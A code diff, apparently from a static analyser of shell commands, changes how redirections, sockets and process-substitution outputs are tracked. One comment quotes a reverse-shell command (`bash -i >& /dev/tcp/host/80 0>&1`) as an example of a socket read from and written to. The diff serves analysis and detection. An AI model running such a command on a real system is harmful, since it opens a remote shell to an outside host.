@@ -85,13 +85,20 @@ function openFile(
   const [first] = fields;
   const opened = openedBy(operator, first, looksInside, streams.descriptors, frame);
   const isSocket = first !== undefined && SOCKET.test(first.text);
-  if ((number !== 1 && number !== 2) || isSocket) streams.descriptors.set(number, opened);
+  if ((number !== 1 && number !== 2) || isSocket || opened.feeds !== undefined)
+    streams.descriptors.set(number, opened);
   const isOutput = number === 1 || operator.startsWith('&');
   if (isOutput) streams.printsToPipe = false;
   else if (number === 0 && operator !== '<>') streams.input = opened.content;
   // What goes to the standard error as well isn't known.
   if (isOutput && /^>[>|]?$/.test(operator))
     streams.outputs.push(...fields.map((target) => ({ target, frame, appends: operator === '>>' })));
+  else if (isOutput && opened.feeds !== undefined)
+    streams.outputs.push({
+      target: { ...knownField('/dev/fd/63'), feeds: opened.feeds },
+      frame,
+      appends: true,
+    });
   else first?.feeds?.(undefined);
 }
 
@@ -112,7 +119,7 @@ function openedBy(
   const path = resolveField(frame, target);
   // What is opened for both is read from, too: `bash -i >& /dev/tcp/host/80 0>&1`.
   if (SOCKET.test(target.text)) return { path, content: fieldFrom('network') };
-  if (operator !== '<') return { path, content: undefined };
+  if (operator !== '<') return { path, content: undefined, ...(target.feeds && { feeds: target.feeds }) };
   if (!looksInside) return { path, content: contentGiven(target, frame) };
   return {
     path,
